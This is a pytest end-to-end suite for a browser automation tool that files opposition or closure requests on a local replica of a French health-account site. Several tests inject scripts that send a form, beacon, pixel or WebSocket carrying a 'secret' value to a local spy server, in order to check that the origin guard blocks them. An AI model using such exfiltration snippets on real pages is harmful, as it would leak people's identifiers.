"""The flow engine end to end: real headless Chromium, real HTTP, the local replica.

What is checked is what the person cares about: the act done once and only the one
asked for (opposition, never activation), the justificatif kept and valid, a clear French
message and the right exit code when something goes wrong, a journal row that says it,
a screenshot as evidence, and nothing recorded on the site when the run stopped early.
"""

from __future__ import annotations

import contextlib
import os
import re
import signal
import stat
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ens_auto.errors import EXIT_CANCELLED, EXIT_FAILED, EXIT_UNAVAILABLE, Cancelled
from ens_auto.flow.load import FlowError, load_flow, parse_flow
from ens_auto.flow.model import Flow
from ens_auto.flow.run import ForeignOrigin, OutcomeReached, StepFailed
from ens_auto.identity import Detail
from ens_auto.proof import check_pdf, normalise_text
from tests.e2e.conftest import (
    Executed,
    ScriptedUI,
    closure_details,
    opposition_details,
    opposition_raw,
)

pytestmark = pytest.mark.e2e

PERSON = "adulte_sans_photo"


def flow_of(yaml_text: str) -> Flow:
    """A small flow written in the test; its site is replaced by the replica's at run time."""
    return parse_flow(textwrap.dedent(yaml_text), source="<test>")


def evidence(message: str) -> Path:
    """The screenshot a failure message points to; it must exist and be a picture."""
    found = re.search(r"Capture(?: de la page)? : (\S+\.jpg)", message)
    assert found, f"no screenshot named in: {message}"
    path = Path(found.group(1))
    assert path.is_file() and path.stat().st_size > 1000
    assert path.read_bytes()[:3] == b"\xff\xd8\xff"  # JPEG
    return path


def assert_nothing_recorded(replica: Any) -> None:
    state = replica.control.state()
    assert state["oppositions"] == [] and state["activations"] == []
    assert state["closures"] == []


def assert_no_secret(text: str, details: dict[str, Detail]) -> None:
    for detail in details.values():
        if detail.secret and len(detail.value) >= 6:
            assert detail.value not in text


# A short opening of the opposition: up to the identity page (no act on the site).
OPENING = """
    name: ouverture
    title: Début de l'opposition
    site: http://127.0.0.1:1
    inputs: [code_provisoire]
    steps:
      - say: Ouvrir la page « clôturer ou m'opposer »
        goto: /enrolement/cloture/accueil
      - say: Choisir de m'opposer
        click:{c1}
          - {{role: link, name: "Je m'oppose à la création de mon profil"}}
      - say: Saisir le code provisoire
        fill:
          target:{c2}
            - {{label: "Saisir le code provisoire à 12 caractères"}}
          value: "{{{{ code_provisoire }}}}"
      - say: Valider le code provisoire
        click:{c3}
          - {{role: button, name: "Valider", exact: true}}
      - say: Vérifier que la page « Mon identité » est affichée
        expect:
          visible:{c4}
            - {{label: "Mon numéro de sécurité sociale"}}
"""
BROKEN = "\n          - {css: '#rien-de-tel'}"


def opening(*, broken: bool = False) -> Flow:
    # The broken candidate comes FIRST on each target.
    fill = {f"c{i}": (BROKEN if broken else "") for i in range(1, 5)}
    fill["c2"] = fill["c2"].replace("\n          ", "\n            ")
    fill["c4"] = fill["c4"].replace("\n          ", "\n            ")
    return flow_of(OPENING.format(**fill))


def code_only() -> dict[str, Detail]:
    return {"code_provisoire": opposition_details(PERSON)["code_provisoire"]}


# ------------------------------------------------------------------ the shipped flows


def test_opposition_end_to_end(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    details = opposition_details(PERSON)
    ran: Executed = run_exec(load_flow("opposition"), details, confirm="each", label="moi")
    result, report = ran.result, ran.report

    assert result.outcome == "reussi", result.error and result.error.message
    assert ran.row.outcome == "reussi"
    # The site recorded an opposition for this person, and no activation.
    state = replica.control.state()
    assert [o["person"] for o in state["oppositions"]] == [PERSON]
    assert state["activations"] == []
    # The justificatif: a checked PDF with today's name, private, mentioning the reference.
    pdf = report.justificatif
    assert pdf is not None and pdf.parent == ran.settings.download_dir
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}_opposition_moi\.pdf", pdf.name)
    assert stat.S_IMODE(pdf.stat().st_mode) == 0o600
    check = check_pdf(pdf.read_bytes(), must_contain=["opposition"])
    assert check.ok, check.reason
    reference = state["oppositions"][0]["reference"]
    assert normalise_text(reference) in normalise_text(check.text).replace(" ", "")
    kinds = {f.kind for f in ran.row.files}
    assert {"justificatif", "capture_confirmation", "texte_confirmation"} <= kinds
    assert report.confirmation is not None and report.confirmation.is_file()
    # Confirmation asked before every acting step, the irreversible one flagged as such
    # and shown with the real name of what it pressed.
    numbers = {say: n for n, _, say, _ in ran.ui.shown}
    irreversible = [n for n, irr, _ in ran.ui.confirmed if irr]
    assert irreversible == [numbers["Confirmer mon opposition"]]
    assert ran.ui.elements == ["bouton « Confirmer mon opposition »"]
    looking = numbers["Vérifier que la page du code provisoire est affichée"]
    assert looking not in ran.ui.confirmed_numbers  # an « expect » step only looks
    # Numbers never skip: 1, 2, 3... whatever steps did not apply or were not needed.
    assert [n for n, *_ in ran.ui.shown] == list(range(1, len(ran.ui.shown) + 1))
    # What was shown and journaled never holds the secrets in clear.
    shown = " ".join(str(v) for *_, v in ran.ui.shown if v)
    assert_no_secret(shown + ran.row.message + result.final_text, details)


def test_cloture_end_to_end(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    details = closure_details("compte_cloture", suppression=True)
    identifiant = details["identifiant"].value
    ui = ScriptedUI(reply=lambda question, secret: replica.control.otp(identifiant))
    ran = run_exec(load_flow("cloture"), details, ui, confirm="irreversible", label="moi")

    assert ran.result.outcome == "reussi", ran.result.error and ran.result.error.message
    assert ran.row.outcome == "reussi"
    closures = replica.control.state()["closures"]
    assert [(c["account"], c["suppression_donnees"]) for c in closures] == [
        ("compte_cloture", True)
    ]
    # The one-time code was asked once, as a secret; only the irreversible step confirmed.
    assert [secret for _, secret in ui.asked] == [True]
    assert [irr for _, irr, _ in ui.confirmed] == [True]
    assert ran.report.confirmation is not None and ran.report.confirmation.is_file()
    assert "Profil clôturé" in ran.result.final_text
    assert_no_secret(ran.row.message + ran.result.final_text, details)


# ------------------------------------------------------------------ the site misbehaves


def test_maintenance_stops_with_the_phone_route(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(maintenance=True)
    ran = run_exec(load_flow("opposition"), opposition_details(PERSON))
    error = ran.result.error
    assert isinstance(error, OutcomeReached) and error.outcome_id == "maintenance"
    assert error.exit_code == EXIT_UNAVAILABLE
    assert "maintenance" in error.message and "503" in error.message
    assert "3422" in f"{error.message}\n{error.hint}"
    assert ran.result.last_number == 1
    evidence(error.message)
    assert ran.row.outcome == "echec" and "maintenance" in ran.row.message
    assert_nothing_recorded(replica)


def test_latency_beyond_the_timeout_fails_clearly(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(latency_ms=1800)
    ran = run_exec(opening(), code_only(), timeout_ms=800, navigation_timeout_ms=1000)
    error = ran.result.error
    assert isinstance(error, StepFailed) and error.exit_code == EXIT_FAILED
    assert "Délai dépassé" in error.message and "étape 1" in error.message
    evidence(error.message)
    assert ran.row.outcome == "echec" and ran.row.last_step == 1
    assert_nothing_recorded(replica)


def test_a_page_rendered_late_within_the_timeout_is_waited_for(play, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(late_render_ms=500)
    played = play(opening(), code_only(), timeout_ms=4000, screenshots=False)
    assert played.result.ok, played.result.error and played.result.error.message
    # The content appeared 0.5 s after each page loaded: the runner waited for it.
    click = played.result.steps[1]
    assert click.status == "fait" and click.elapsed_ms >= 400
    assert played.result.steps[-1].status == "fait"


def test_a_page_rendered_later_than_the_timeout_fails(play, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(late_render_ms=3000)
    played = play(opening(), code_only(), timeout_ms=600)
    error = played.result.error
    assert isinstance(error, StepFailed)
    assert "L'étape 2 n'a pas pu être faite" in error.message
    assert "Introuvable" in error.message and "aucun élément" in error.message
    evidence(error.message)


def test_a_broken_first_candidate_costs_little(play, replica) -> None:  # type: ignore[no-untyped-def]
    plain = play(opening(), code_only(), screenshots=False)
    replica.control.reset()
    broken = play(opening(broken=True), code_only(), screenshots=False)
    assert plain.result.ok and broken.result.ok, broken.result.error
    # Every target found with its second candidate, the broken first one ignored.
    found = [s.candidate for s in broken.result.steps if s.candidate]
    assert found and not any("rien-de-tel" in c for c in found)
    extra = broken.seconds - plain.seconds
    per_step = extra / 4
    print(f"broken first candidate: {extra * 1000:.0f} ms in all, {per_step * 1000:.0f} ms/step")
    assert extra < 1.5


def test_a_candidate_matching_several_elements_stops(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    flow = flow_of(
        """
        name: ambigu
        title: Ambigu
        site: http://127.0.0.1:1
        steps:
          - say: Ouvrir la page
            goto: /enrolement/cloture/accueil
          - say: Cliquer sur un lien
            click: {role: link}
        """
    )
    ran = run_exec(flow, timeout_ms=2000)
    error = ran.result.error
    assert isinstance(error, StepFailed) and error.exit_code == EXIT_FAILED
    assert "Ambigu" in error.message and "Arrêt sans deviner" in error.message
    assert "éléments" in error.message  # the count of what it matched
    evidence(error.message)
    assert ran.row.outcome == "echec" and "Ambigu" in ran.row.message
    assert ran.result.final_url.endswith("/enrolement/cloture/accueil")  # nothing clicked


def test_two_candidates_on_different_elements_stop(play, replica) -> None:  # type: ignore[no-untyped-def]
    flow = flow_of(
        """
        name: ambigu
        title: Ambigu
        site: http://127.0.0.1:1
        steps:
          - say: Ouvrir la page
            goto: /enrolement/cloture/accueil
          - say: Choisir la démarche
            click:
              - {role: link, name: "Je m'oppose à la création de mon profil"}
              - {role: link, name: "Je souhaite clôturer mon profil"}
        """
    )
    played = play(flow)
    error = played.result.error
    assert isinstance(error, StepFailed)
    assert "deux repères désignent des éléments différents" in error.message
    assert played.result.final_url.endswith("/enrolement/cloture/accueil")


def test_a_goto_off_the_site_is_refused_before_any_browser() -> None:
    text = """
        name: ailleurs
        title: Ailleurs
        site: https://www.monespacesante.fr
        steps:
          - say: Ouvrir
            goto: /enrolement/cloture/accueil
          - say: Partir ailleurs
            goto: https://www.exemple.org/formulaire
        """
    with pytest.raises(FlowError) as caught:
        flow_of(text)
    assert "sort du site" in caught.value.message
    assert caught.value.exit_code == 2
    assert caught.value.problems[0].line is not None


def test_an_absolute_goto_follows_the_site_of_the_run(play, replica) -> None:  # type: ignore[no-untyped-def]
    flow = flow_of(
        """
        name: absolu
        title: Adresse complète
        site: http://127.0.0.1:1
        steps:
          - say: Ouvrir la page « clôturer ou m'opposer »
            goto: http://127.0.0.1:1/enrolement/cloture/accueil
        """
    )
    played = play(flow, screenshots=False)
    assert played.result.ok, played.result.error and played.result.error.message
    assert played.result.final_url == replica.url + "/enrolement/cloture/accueil"


@pytest.fixture
def elsewhere() -> Any:
    """Another site, on this machine: it records every request that reaches it. One on
    another local address, one on the replica's own address but another port."""
    import http.server
    import threading

    class Spy(http.server.ThreadingHTTPServer):
        hits: list[str]

    class Handler(http.server.BaseHTTPRequestHandler):
        def _hit(self) -> None:
            self.server.hits.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(b"<h1>Ailleurs</h1>")

        do_GET = do_POST = _hit

        def log_message(self, *args: Any) -> None:
            pass

    spies = []
    for host in ("127.0.0.2", "127.0.0.1"):
        spy = Spy((host, 0), Handler)
        spy.hits = []
        threading.Thread(target=spy.serve_forever, daemon=True).start()
        spies.append(spy)
    yield [(f"http://{spy.server_address[0]}:{spy.server_address[1]}", spy.hits) for spy in spies]
    for spy in spies:
        spy.shutdown()
        spy.server_close()


def test_leaving_the_site_stops_before_anything_is_typed(play, replica, elsewhere) -> None:  # type: ignore[no-untyped-def]
    (other, hits), _ = elsewhere

    def leave_at_fill(runner: Any, number: int, say: str) -> None:
        if number == 3:  # just before the code is typed, the page sends the browser away
            runner.page.evaluate(f"location.href = '{other}/collecte'")
            runner.page.wait_for_timeout(300)

    played = play(opening(), code_only(), keep_open=True, hook=leave_at_fill)
    result, page = played.result, played.runner.page
    error = result.error
    assert isinstance(error, ForeignOrigin), error
    assert error.exit_code == EXIT_FAILED
    assert "127.0.0.2" in error.message and "rien de plus n'a été saisi" in error.message
    assert result.last_number == 3 and [s.status for s in result.steps] == ["fait", "fait"]
    # The navigation was blocked (the browser never reached the other host) and the
    # code was not typed: the step that would type it was never played.
    assert played.runner.guard.violation == "127.0.0.2"
    assert hits == []
    assert page is not None and not page.url.startswith("http://127.0.0.2")
    assert_nothing_recorded(replica)


@pytest.mark.parametrize("which", [0, 1], ids=["other-address", "same-address-other-port"])
def test_nothing_typed_reaches_another_site(play, replica, elsewhere, which) -> None:  # type: ignore[no-untyped-def]
    other, hits = elsewhere[which]

    def post_elsewhere(runner: Any, number: int, say: str) -> None:
        if number == 3:  # the page posts a form elsewhere, in a new tab too
            runner.page.evaluate(
                """(url) => {
                  window.open(url + '/onglet');
                  navigator.sendBeacon(url + '/balise', 'donnees');
                  const form = document.createElement('form');
                  form.method = 'post';
                  form.action = url + '/collecte';
                  form.innerHTML = '<input name="nir" value="secret">';
                  document.body.append(form);
                  form.submit();
                }""",
                other,
            )
            runner.page.wait_for_timeout(500)

    played = play(opening(), code_only(), hook=post_elsewhere, screenshots=False)
    assert isinstance(played.result.error, ForeignOrigin), played.result.error
    assert hits == []  # nothing ever reached the other site, not even a new tab
    assert_nothing_recorded(replica)


def test_resources_elsewhere_are_blocked_and_noted(play, replica, elsewhere) -> None:  # type: ignore[no-untyped-def]
    (other, hits), _ = elsewhere

    def pixel(runner: Any, number: int, say: str) -> None:
        if number == 2:  # a tracking pixel elsewhere: blocked, noted, not a reason to stop
            runner.page.evaluate(f"new Image().src = '{other}/pixel.gif'")
            runner.page.wait_for_timeout(200)

    played = play(opening(), code_only(), hook=pixel, screenshots=False)
    assert played.result.ok, played.result.error
    assert any("127.0.0.2" in message for message in played.ui.infos)
    assert hits == []


def test_a_real_sites_guard_lets_through_its_domain_over_https_only(browser) -> None:  # type: ignore[no-untyped-def]
    # A site under .test (a name that never resolves, on any network): a request let
    # through goes out directly and fails to resolve; one held by the guard goes to its
    # proxy to nowhere and fails there. The failure says which way each one went.
    from ens_auto.flow.guard import OriginGuard

    guard = OriginGuard("https://www.ens-auto.test")
    context = guard.new_context(browser)
    failed: dict[str, str] = {}
    context.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure or ""))
    page = context.new_page()
    direct = ["https://www.ens-auto.test/", "https://ens-auto.test/", "https://a.b.ens-auto.test/"]
    held = [
        "http://www.ens-auto.test/",
        "https://ens-auto.test.ailleurs.test/",
        "https://x-ens-auto.test/",
    ]
    try:
        for url in direct + held:
            with contextlib.suppress(Exception):
                page.goto(url, timeout=5_000)
    finally:
        context.close()
        guard.close()
    assert all("PROXY" not in failed[url] for url in direct), failed
    assert all("PROXY" in failed[url] for url in held), failed
    assert guard.violation == "www.ens-auto.test"  # led over plain http: a stop
    assert guard.blocked == ["ens-auto.test.ailleurs.test", "x-ens-auto.test"]


GUARD_WAYS = pytest.mark.parametrize("intercept", [False, True], ids=["proxy", "route"])


@contextlib.contextmanager
def guarded_page(browser: Any, site: str, *, intercept: bool) -> Iterator[tuple[Any, Any]]:
    """A page on ``site`` in a context kept on it by the guard, either way: the browser's
    proxy (the default), or requests stopped on their way (a machine behind a proxy of
    its own). Yields the page and the guard."""
    from ens_auto.flow.guard import OriginGuard

    guard = OriginGuard(site, intercept=intercept)
    context = guard.new_context(browser)
    try:
        page = context.new_page()
        page.goto(site + "/")
        yield page, guard
    finally:
        context.close()
        guard.close()


@GUARD_WAYS
def test_websockets_reach_the_site_only(browser, elsewhere, intercept) -> None:  # type: ignore[no-untyped-def]
    # The site here is one of the recording servers; the other one is elsewhere.
    (other, other_hits), (site, site_hits) = elsewhere
    with guarded_page(browser, site, intercept=intercept) as (page, _guard):
        for url in (site, other):
            page.evaluate("(url) => { new WebSocket(url.replace('http', 'ws') + '/ws'); }", url)
        page.wait_for_timeout(500)
    assert "GET /ws" in site_hits  # the site's own WebSocket went through
    assert other_hits == []  # never elsewhere


@GUARD_WAYS
def test_nothing_reaches_another_site_either_way(browser, elsewhere, intercept) -> None:  # type: ignore[no-untyped-def]
    (other, other_hits), (site, site_hits) = elsewhere
    with guarded_page(browser, site, intercept=intercept) as (page, guard):
        page.evaluate(
            """(url) => {
              new Image().src = url + '/pixel.gif';
              navigator.sendBeacon(url + '/balise', 'donnees');
              window.open(url + '/onglet');
            }""",
            other,
        )
        page.wait_for_timeout(300)
        with contextlib.suppress(Exception):
            page.goto(other + "/page")
    assert site_hits and other_hits == []
    assert guard.violation == "127.0.0.2"  # sent data there, or led a page there
    assert "127.0.0.2" in guard.blocked  # and the rest was noted


def test_corrupt_pdf_is_kept_apart(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(pdf="corrupt")
    ran = run_exec(load_flow("opposition"), opposition_details(PERSON), label="moi")
    from ens_auto.execute import SuspectProof

    error = ran.result.error
    assert isinstance(error, SuspectProof), error
    assert error.exit_code == EXIT_FAILED
    assert "n'est pas valable" in error.message and "3422" in error.message
    folder = ran.settings.download_dir / "a-verifier"
    suspects = list(folder.glob("*_suspect.bin"))
    assert len(suspects) == 1 and str(suspects[0]) in error.message
    assert b"Erreur interne" in suspects[0].read_bytes()  # kept as received, to look at
    note = suspects[0].with_suffix(".txt").read_text(encoding="utf-8")
    assert "pas passé la vérification" in note
    assert not list(ran.settings.download_dir.glob("*.pdf"))  # no « justificatif » kept
    assert ran.report.justificatif is None
    assert ran.row.outcome == "echec"
    assert "suspect" in {f.kind for f in ran.row.files}
    # The opposition itself went through: the message says not to do it again blindly.
    assert [o["person"] for o in replica.control.state()["oppositions"]] == [PERSON]


def test_pdf_error_fails_with_the_sites_message(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(pdf="error")
    ran = run_exec(load_flow("opposition"), opposition_details(PERSON), timeout_ms=2500)
    error = ran.result.error
    assert isinstance(error, StepFailed) and error.exit_code == EXIT_FAILED
    number = ran.result.last_number
    assert f"L'étape {number} n'a pas pu être faite : Télécharger le justificatif" in error.message
    # The site's error alert stops the wait at once (no need to wait the whole timeout).
    assert "Le site n'a pas pu fournir le fichier" in error.message
    assert "n'a pas pu être téléchargé" in error.message
    # The opposition was confirmed before: the person is told not to redo it blindly.
    assert "ne la refaites pas à l'aveugle" in error.message
    evidence(error.message)
    assert ran.row.outcome == "echec" and ran.report.justificatif is None


@pytest.mark.parametrize("mode", ["attachment", "inline"])
def test_each_download_mode_gives_a_checked_pdf(play, replica, mode: str) -> None:  # type: ignore[no-untyped-def]
    # "script" (the replica's default) is the end-to-end opposition above, through
    # execute(); here the runner alone (no per-step screenshots: faster).
    replica.control.set_faults(download_mode=mode)
    played = play(load_flow("opposition"), opposition_details(PERSON), screenshots=False)
    assert played.result.ok, played.result.error and played.result.error.message
    downloaded = [f for f in played.result.files if f.name == "telechargement.bin"]
    assert len(downloaded) == 1
    check = check_pdf(downloaded[0].read_bytes(), must_contain=["opposition"])
    assert check.ok, check.reason
    assert [o["person"] for o in replica.control.state()["oppositions"]] == [PERSON]


def test_refusal_at_the_irreversible_step_records_nothing(run_exec, replica) -> None:  # type: ignore[no-untyped-def]
    ui = ScriptedUI(answer=lambda n, step, skip: "arreter" if step.irreversible else "continuer")
    ran = run_exec(load_flow("opposition"), opposition_details(PERSON), ui, confirm="irreversible")
    error = ran.result.error
    assert ran.result.outcome == "annule"
    assert isinstance(error, Cancelled) and error.exit_code == EXIT_CANCELLED == 130
    number = {say: n for n, _, say, _ in ui.shown}["Confirmer mon opposition"]
    assert f"avant l'étape {number}" in error.message
    assert ui.confirmed_numbers == [number]
    assert ran.row.outcome == "annule" and ran.row.last_step == number
    assert_nothing_recorded(replica)
    assert ran.report.justificatif is None


def test_session_expired_fails_clearly(play, replica) -> None:  # type: ignore[no-untyped-def]
    replica.control.set_faults(session_ttl_s=1.0)

    def wait_before_submit(runner: Any, number: int, say: str) -> None:
        if number == 4:  # the person leaves the page open too long before validating
            time.sleep(1.3)

    played = play(
        opening(), code_only(), timeout_ms=1500, hook=wait_before_submit, screenshots=False
    )
    error = played.result.error
    assert isinstance(error, StepFailed), error
    assert "L'étape 5 n'a pas pu être faite" in error.message
    assert played.result.final_url.endswith("/session-expiree")
    assert "session a expiré" in played.result.final_text
    assert_nothing_recorded(replica)


# ------------------------------------------------------------------ Ctrl-C


def test_ctrl_c_cancels_cleanly(replica, isolated_env) -> None:  # type: ignore[no-untyped-def]
    from ens_auto.journal import Journal

    replica.control.set_faults(late_render_ms=20_000)
    raw = opposition_raw(PERSON)
    env = {
        **os.environ,
        "ENS_AUTO_CODE_PROVISOIRE": raw["code_provisoire"],
        "ENS_AUTO_NIR": raw["nir"],
        "ENS_AUTO_CARTE_VITALE_TYPE": raw["carte_vitale_type"],
        "ENS_AUTO_CARTE_VITALE_SERIE": raw["carte_vitale_serie"],
        "ENS_AUTO_TIMEOUT_MS": "60000",
        "COLUMNS": "200",
    }
    command = [
        sys.executable,
        "-m",
        "ens_auto",
        "replay",
        "opposition",
        "--site",
        replica.url,
        "--headless",
        "--yes",
    ]
    proc = subprocess.Popen(
        command,
        env=env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,  # its own process group, as a terminal's foreground job
    )
    assert proc.stdin is not None
    proc.stdin.write("non\n")  # representant_legal, asked on stdin (not a terminal)
    proc.stdin.flush()
    journal_path = isolated_env["data"] / "journal.sqlite3"
    deadline = time.monotonic() + 30
    runs: list[Any] = []
    while time.monotonic() < deadline and proc.poll() is None:
        if journal_path.exists():
            runs = Journal(journal_path).list_runs()
            if runs and (runs[0].last_step or 0) >= 1:
                break
        time.sleep(0.1)
    assert runs and (runs[0].last_step or 0) >= 1, proc.communicate(timeout=10)
    time.sleep(0.8)  # the page opened, its content 20 s late: the run is waiting for it
    os.killpg(proc.pid, signal.SIGINT)  # Ctrl-C goes to the whole foreground group
    try:
        stdout, stderr = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        raise
    assert proc.returncode == EXIT_CANCELLED, stderr
    run = Journal(journal_path).list_runs()[0]
    assert run.outcome == "annule", (run, stderr)
    assert "Ctrl-C" in stderr or "Arrêt" in stderr
    assert raw["nir"] not in stdout + stderr
    assert_nothing_recorded(replica)
